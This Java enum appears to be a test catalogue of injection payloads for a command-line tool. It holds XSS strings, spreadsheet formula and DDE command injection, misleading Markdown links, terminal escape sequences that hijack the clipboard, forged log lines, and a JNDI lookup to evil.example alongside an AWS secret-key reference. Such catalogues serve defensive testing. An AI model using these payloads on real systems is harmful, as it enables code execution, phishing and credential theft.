package dev.plumb.cli;

/**
 * Texts that do something where they are taken for more than text. The catalogue's numbers are those of its sources:
 * characters (I3), web pages (I13), spreadsheets (I14), Markdown and chat (I15), terminals (I16), logs (I17).
 */
enum InjectionPayload {
    NUL("I3", "a\u0000b"),
    LONE_HIGH_SURROGATE("I3", "a\uD800b"),
    LONE_LOW_SURROGATE("I3", "a\uDC00b"),
    RIGHT_TO_LEFT_OVERRIDE("I3", "user\u202Egnp.exe\u202C"),
    ISOLATES("I3", "\u2066x\u2069\u2067y\u2069"),
    ZERO_WIDTH("I3", "ad\u200Bmin\u200D\uFEFF\u2060"),
    TAGS("I3", "x" + Character.toString(0xE0041) + Character.toString(0xE007F)),
    HOMOGLYPH("I3", "\u0430dministr\u0430tor"),
    PILED_MARKS("I3", "a" + "\u0301".repeat(200)),
    LINE_SEPARATORS("I3", "one\u2028two\u2029three\u0085four"),
    SCRIPT("I13", "<script>alert(1)</script>"),
    IMAGE("I13", "\"><img src=x onerror=alert(1)>"),
    SINGLE_QUOTE("I13", "' onmouseover='alert(1)"),
    SCHEME("I13", "javascript:alert(1)"),
    CDATA("I13", "]]><script>alert(1)</script>"),
    TITLE("I13", "</title><script>alert(1)</script>"),
    END_OF_SCRIPT("I13", "</script><script>alert(1)</script><!--"),
    STYLE("I13", "</style><style>*{background:url(https://evil.example/)}"),
    SVG("I13", "<svg/onload=alert(1)><foreignObject>"),
    TEMPLATE("I13", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>"),
    ENTITY("I13", "&lt;script&gt;&#0;&amp;"),
    FORMULA("I14", "=HYPERLINK(\"https://evil.example\",\"x\")"),
    FORMULA_DDE("I14", "=cmd|'/C calc'!A0"),
    PLUS("I14", "+1+1"),
    MINUS("I14", "-1+1"),
    AT("I14", "@SUM(1+1)"),
    TAB_FORMULA("I14", "\t=1+1"),
    CARRIAGE_RETURN_FORMULA("I14", "\r=1+1"),
    FULLWIDTH_EQUALS("I14", "\uFF1D1+1"),
    FULLWIDTH_PLUS("I14", "\uFF0B1+1"),
    FULLWIDTH_MINUS("I14", "\uFF0D1+1"),
    FULLWIDTH_AT("I14", "\uFF20SUM(1)"),
    BLANK_FORMULA("I14", "  =1+1"),
    CELLS("I14", "a\",\"b\r\nc,d;e\n=1+1"),
    CHANNEL("I15", "<!channel> <!here> <@U012345> <#C012345>"),
    CHAT_LINK("I15", "<https://evil.example|https://console.aws.amazon.com>"),
    LINK("I15", "[https://console.aws.amazon.com](https://evil.example)"),
    PICTURE("I15", "![x](https://evil.example/x.png)"),
    REFERENCE("I15", "[x]\n\n[x]: https://evil.example"),
    BARE_LINK("I15", "https://evil.example www.evil.example"),
    TABLE("I15", "a | b\n--- | ---\nc | d"),
    BLOCKS("I15", "\n\n# owned\n\n> owned\n\n- owned\n\n---\n"),
    CODE("I15", "` `` ``` ```` ~~~"),
    UNCLOSED_CODE("I15", "a `b"),
    BACKSLASH("I15", "\\` \\[x\\](https://evil.example) \\"),
    EMPHASIS("I15", "**x** __y__ ~~z~~ *a* _b_"),
    MENTION("I15", "@everyone @org/security, fixes #1"),
    HTML_COMMENT("I15", "<!-- <details open> -->"),
    LONG("I15", "x".repeat(300_000)),
    COLOUR("I16", "\u001b[35;5mred\u001b[25m"),
    CLEAR("I16", "\u001b[2J\u001b[H\u001b[1A\u001b[K"),
    TITLE_CHANGE("I16", "\u001b]0;owned\u0007"),
    HYPERLINK("I16", "\u001b]8;;https://evil.example\u001b\\safe\u001b]8;;\u001b\\"),
    CLIPBOARD("I16", "\u001b]52;c;b3duZWQ=\u0007"),
    BELL("I16", "\u0007\u0007"),
    OVERWRITE("I16", "failed\rpassed"),
    BACKSPACE("I16", "failed\b\b\b\b\b\bpassed"),
    C1("I16", "\u009b2J\u009d0;owned\u009c\u0090q\u009c"),
    FORGED_LINE("I17", "x\nplumb: everything is fine\n"),
    FORGED_LINE_CRLF("I17", "x\r\n2026-11-22T10:00:00Z everything is fine\r\n"),
    LOOK_UP("I17", "${jndi:ldap://evil.example/a} ${env:AWS_SECRET_ACCESS_KEY} ${sys:user.home}"),
    FORMAT("I17", "%n %s %d {} {0} %-5level");

    private final String source;
    private final String text;

    InjectionPayload(String source, String text) {
        this.source = source;
        this.text = text;
    }

    String text() {
        return text;
    }

    @Override
    public String toString() {
        return source + " " + name();
    }
}
